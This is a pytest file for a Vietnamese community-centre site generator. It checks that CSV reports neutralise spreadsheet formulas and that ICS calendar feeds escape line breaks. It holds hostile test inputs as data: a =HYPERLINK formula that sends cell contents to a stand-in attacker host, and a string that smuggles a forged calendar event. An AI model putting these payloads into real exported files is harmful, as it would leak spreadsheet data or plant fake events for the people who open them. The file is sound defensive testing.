"""Hostile text from content cannot escape its cell or property in the files we publish.

CSV: a cell beginning with = + - @ (or tab, CR…) is a formula in a spreadsheet (OWASP "CSV
Injection"); it is prefixed with a quote. ICS: a CR or LF in a name would start a new content line
(a forged ``BEGIN:VEVENT``); every text goes through icalendar's ``vText``. Outputs are read back
with the csv module, icalendar and recurring-ical-events, never with our own code.
"""

from __future__ import annotations

import csv
import io
import re

import icalendar
import pytest
import recurring_ical_events

from cli_helpers import make_project
from hoctap.kinds.events.calendar import build_calendar
from hoctap.core.problems import Problems
from hoctap.kinds.events.model import Event
from hoctap.kinds.events.ics import write_ics
from hoctap.kinds.reports.pages import csv_cell

HOST = "hoctap-vienglan.example.org"
TITLE = '=HYPERLINK("http://ke-xau.example/?q="&A1;"Bấm vào đây")'
PLACE = "+84 Sân; BEGIN:VEVENT, \\ nhà"
ORGANIZER = "@Ban tổ chức; BEGIN:VEVENT, \\ xã \\n\\, C:\\new"
CATEGORY = "-Hội thi; BEGIN:VEVENT, \\ cấp xã \\n\\;"
CENTRE = "Trung tâm; thử, \\ BEGIN:VEVENT C:\\new\\,"
VILLAGE = "  =1+1 Bản Lán"

EVENT = f"""ma: su-kien-doc-hai
tieu_de: '{TITLE}'
bat_dau: "2026-03-10 19:00"
ket_thuc: "2026-03-10 21:00"
the_loai: hoi-thi
ban: ban-lan
dia_diem: {{ ten: '{PLACE}' }}
don_vi_to_chuc: '{ORGANIZER}'
to_chuc: khac
da_to_chuc: {{ ngay: 2026-03-10, nguoi_tham_gia: 12 }}
"""


def _yaml_single(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


@pytest.fixture(scope="module")
def hostile_hub(tmp_path_factory):
    """The sample project with hostile names in mkdocs.yml and one hostile event, loaded in-process
    (the outputs are the bytes MkDocs writes)."""
    project = make_project(tmp_path_factory.mktemp("hostile"))
    config = project / "mkdocs.yml"
    text = config.read_text(encoding="utf-8")
    text = text.replace("trung_tam: Trung tâm Văn hóa – Học tập cộng đồng xã Viêng Lán",
                        f"trung_tam: {_yaml_single(CENTRE)}")
    text = text.replace("{ ma: hoi-thi, ten: Hội thi,", f"{{ ma: hoi-thi, ten: {_yaml_single(CATEGORY)},")
    text = text.replace("{ ma: ban-lan, ten: Bản Lán }", f"{{ ma: ban-lan, ten: {_yaml_single(VILLAGE)} }}")
    config.write_text(text, encoding="utf-8")
    (project / "events" / "su-kien-doc-hai.yaml").write_text(EVENT, encoding="utf-8")
    from hoctap.adapters.cli import load_project, load_project_hub

    hub = load_project_hub(load_project(str(config)))
    assert hub.config.unit.centre == CENTRE and hub.config.category("hoi-thi").name == CATEGORY
    assert hub.calendar.events["su-kien-doc-hai"].source.title == TITLE
    files = {f.path: f.content for f in hub.outputs().files}
    return hub, files


# -- CSV ------------------------------------------------------------------------------------------

@pytest.mark.parametrize("value", ["=1+1", "+84 912", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
                                   "  =1+1", "\u00a0@x", "\0x"])
def test_formula_cells_are_quoted(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Hội thi", "2026-03-10", "Thứ Ba, 10/03/2026", "", "a=b", "x-y",
                                   "https://x.example/a-b"])
def test_plain_cells_are_kept(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", [12, -5, 0, None])
def test_numbers_stay_numbers(value):
    assert csv_cell(value) == value


def test_report_csv_neutralises_formulas_and_keeps_numbers(hostile_hub):
    _hub, files = hostile_hub
    raw = files["bao-cao/2026.csv"]
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    row = next(r for r in rows if r["url"].endswith("/lich/su-kien/su-kien-doc-hai.html"))
    assert row["hoat_dong"] == "'" + TITLE
    assert row["dia_diem"] == "'" + PLACE
    assert row["the_loai"] == "'" + CATEGORY
    assert row["ban"] == "'" + VILLAGE.strip()   # one-line names are trimmed on load
    assert row["so_nguoi_tham_gia"] == "12"       # a number, not text
    for r in rows:
        for key, cell in r.items():
            assert not cell.lstrip().startswith(("=", "+", "-", "@")), (key, cell)
            assert not cell.startswith(("\t", "\r", "\n")), (key, cell)
        assert re.fullmatch(r"\d*", r["so_nguoi_tham_gia"]), r["so_nguoi_tham_gia"]
    # One record per activity: no cell spilled into another line or column.
    assert all(len(r) == len(rows[0]) and None not in r for r in rows)


# -- ICS ------------------------------------------------------------------------------------------

def _lines_starting(raw: bytes, prefix: str) -> int:
    """Content lines starting with ``prefix`` for a client that breaks lines at CR, LF or CRLF."""
    return sum(1 for line in re.split(r"\r\n|\r|\n", raw.decode("utf-8")) if line.startswith(prefix))


def text(prop) -> str:
    """A TEXT value unescaped as RFC 5545 3.3.11 says, in one pass. icalendar's parser leaves NAME
    and X- properties as ``vUnknown``, still escaped; its unescaping of known ones is not used."""
    raw = prop.to_ical().decode("utf-8") if isinstance(prop, icalendar.prop.vUnknown) else None
    if raw is None:
        return str(prop)
    return re.sub(r"\\([\\;,nN])", lambda m: "\n" if m.group(1) in "nN" else m.group(1), raw)


def _check_feed(raw: bytes, uids: set[str]) -> icalendar.Calendar:
    cal = icalendar.Calendar.from_ical(raw)
    events = cal.walk("VEVENT")
    assert _lines_starting(raw, "BEGIN:VEVENT") == len(events)
    assert _lines_starting(raw, "BEGIN:") == len(events) + 3    # VCALENDAR, VTIMEZONE, STANDARD
    assert _lines_starting(raw, "UID:") == len(events) + 1      # the calendar's own UID
    assert {str(e["UID"]) for e in events} == uids
    return cal


def test_ics_names_are_escaped_and_round_trip(hostile_hub):
    hub, files = hostile_hub
    uid = f"su-kien-doc-hai@{HOST}"
    cal = _check_feed(files["lich/su-kien/su-kien-doc-hai.ics"], {uid})
    assert text(cal["NAME"]) == text(cal["X-WR-CALNAME"]) == TITLE
    assert text(cal["DESCRIPTION"]) == text(cal["X-WR-CALDESC"]) == f"{TITLE} – {CENTRE}"
    (event,) = cal.walk("VEVENT")
    assert text(event["SUMMARY"]) == TITLE
    assert text(event["LOCATION"]) == PLACE
    assert text(event["X-HOCTAP-ORGANIZER"]) == ORGANIZER
    assert [str(c) for c in event.categories] == [CATEGORY]
    found = recurring_ical_events.of(cal).between((2025, 1, 1), (2030, 1, 1))
    assert [str(e["UID"]) for e in found] == [uid]

    category = icalendar.Calendar.from_ical(files["lich/the-loai/hoi-thi.ics"])
    assert text(category["X-WR-CALNAME"]) == f"{CATEGORY} – Viêng Lán"
    assert text(category["X-WR-CALDESC"]) == f"Lịch {CATEGORY.lower()} của {CENTRE}"
    whole = icalendar.Calendar.from_ical(files["lich/lich.ics"])
    assert text(whole["X-WR-CALNAME"]) == f"Lịch hoạt động – {CENTRE}"
    assert _lines_starting(files["lich/lich.ics"], "BEGIN:VEVENT") == len(whole.walk("VEVENT"))


LINE_BREAKS = "Tên\r\nBEGIN:VEVENT\r\nUID:gia@ke-xau.example\r\nEND:VEVENT\rX-A:1\nX-B:2; , \\"


def _flat(text: str) -> str:
    """What a TEXT value becomes: RFC 5545 has one line break, LF."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_ics_writer_escapes_line_breaks_in_every_text(hostile_hub):
    """Whatever the checks upstream refuse, the writer never lets a CR or LF through raw."""
    hub, _files = hostile_hub
    event = hub.calendar.events["su-kien-doc-hai"]
    src = event.source
    source = src.model_copy(update={
        "title": "Sự kiện " + LINE_BREAKS,
        "organizer": "Ban " + LINE_BREAKS,
        "description": "Mô tả " + LINE_BREAKS,
        "location": src.location.model_copy(update={"name": "Sân " + LINE_BREAKS}),
    })
    hostile = Event(source, event.path, event.line, event.field_lines)
    calendar = build_calendar([hostile], hub.calendar.window, Problems(hub.paths.root))
    raw = write_ics("Lịch " + LINE_BREAKS, "Mô tả lịch " + LINE_BREAKS, [hostile], calendar,
                    hub.site_url, {"hoi-thi": "Thể loại " + LINE_BREAKS}, 6, "lich/thu.ics")
    cal = _check_feed(raw, {f"su-kien-doc-hai@{HOST}"})
    for key in ("NAME", "X-WR-CALNAME"):
        assert text(cal[key]) == _flat("Lịch " + LINE_BREAKS)
    for key in ("DESCRIPTION", "X-WR-CALDESC"):
        assert text(cal[key]) == _flat("Mô tả lịch " + LINE_BREAKS)
    (vevent,) = cal.walk("VEVENT")
    assert text(vevent["SUMMARY"]) == _flat("Sự kiện " + LINE_BREAKS)
    assert text(vevent["LOCATION"]) == _flat("Sân " + LINE_BREAKS)
    assert text(vevent["X-HOCTAP-ORGANIZER"]) == _flat("Ban " + LINE_BREAKS)
    assert text(vevent["DESCRIPTION"]).startswith(_flat("Mô tả " + LINE_BREAKS))
    assert [str(c) for c in vevent.categories] == [_flat("Thể loại " + LINE_BREAKS)]
    bare = raw.replace(b"\r\n", b"")
    assert b"\r" not in bare and b"\n" not in bare, "a CR or LF outside a CRLF line end"
    found = recurring_ical_events.of(cal).between((2025, 1, 1), (2030, 1, 1))
    assert len(found) == 1


def test_ics_texts_for_residents_are_vietnamese(hostile_hub):
    """icalendar writes an English COMMENT in VTIMEZONE; ours is Vietnamese."""
    _hub, files = hostile_hub
    cal = icalendar.Calendar.from_ical(files["lich/lich.ics"])
    (zone,) = cal.walk("VTIMEZONE")
    assert text(zone["COMMENT"]).startswith("Múi giờ này chỉ dùng cho khoảng từ ngày")
    assert b"This timezone" not in files["lich/lich.ics"]
